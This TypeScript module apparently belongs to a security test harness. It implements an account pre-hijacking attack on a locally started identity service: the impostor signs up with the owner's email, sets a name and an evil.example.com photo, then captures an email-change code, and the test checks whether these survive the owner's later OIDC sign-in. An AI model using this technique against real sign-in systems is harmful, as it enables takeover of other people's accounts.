import type { Attack } from '../runner/attack.ts'
import { startOidcIssuer } from '../target/oidc-issuer.ts'
import { expectStatus, identity, password } from '../target/people.ts'
import type { Target } from '../target/start-target.ts'
import { withTarget } from '../target/with-target.ts'

const providerId = 'oidc.elsewhere'
const photoUrl = 'https://evil.example.com/face.png'

export const impostorProfile: Attack = {
  name: 'impostor-profile',
  aim: 'put a name and a photo into the account of somebody who signs up later, or move that account to another address',
  async attempt(options) {
    const issuer = await startOidcIssuer(providerId)
    try {
      return await withTarget({ ...options, variables: { OIDC_PROVIDERS: issuer.variable } }, async (target) => {
        const email = 'owner@example.org'
        const impostor = expectStatus(await identity(target, 'accounts:signUp', { email, password }), 200)
        const { idToken } = impostor.json
        expectStatus(await identity(target, 'accounts:update', { idToken, displayName: 'Impostor', photoUrl }), 200)
        const movingCode = await requestMove(target, idToken, 'impostor@example.org')

        const owner = await identity(target, 'accounts:signInWithIdp', {
          requestUri: 'http://localhost',
          postBody: issuer.postBody('owner', { email, email_verified: true }),
          returnSecureToken: true,
        })
        const { json } = await identity(target, 'accounts:lookup', { idToken: expectStatus(owner, 200).json.idToken })
        const [{ displayName, photoUrl: photo } = {} as { displayName?: string; photoUrl?: string }] = json.users
        const moved = await identity(target, 'accounts:update', { oobCode: movingCode })
        return {
          succeeded: displayName !== undefined || photo !== undefined || moved.status === 200,
          evidence: `the owner's account has the name ${displayName ?? 'of nobody'} and ${photo ? 'the photo of the impostor' : 'no photo'}; moving it to another address: ${moved.status} ${moved.json?.error?.message ?? moved.json?.email}`,
        }
      })
    } finally {
      issuer.stop()
    }
  },
}

/** Requests a link to the impostor's own mailbox, and reads it there. */
async function requestMove(target: Target, idToken: string, newEmail: string): Promise<string> {
  const request = { requestType: 'VERIFY_AND_CHANGE_EMAIL', idToken, newEmail }
  expectStatus(await identity(target, 'accounts:sendOobCode', request), 200)
  const printed = /http:\/\/\S+\/outbox\S*/.exec(target.output.text)?.[0] ?? `${target.url}/outbox`
  for (;;) {
    const page = await (await fetch(printed)).text()
    const code = /mode=verifyAndChangeEmail\S*?oobCode=([\w-]+)/.exec(page)?.[1]
    if (code) return code
  }
}
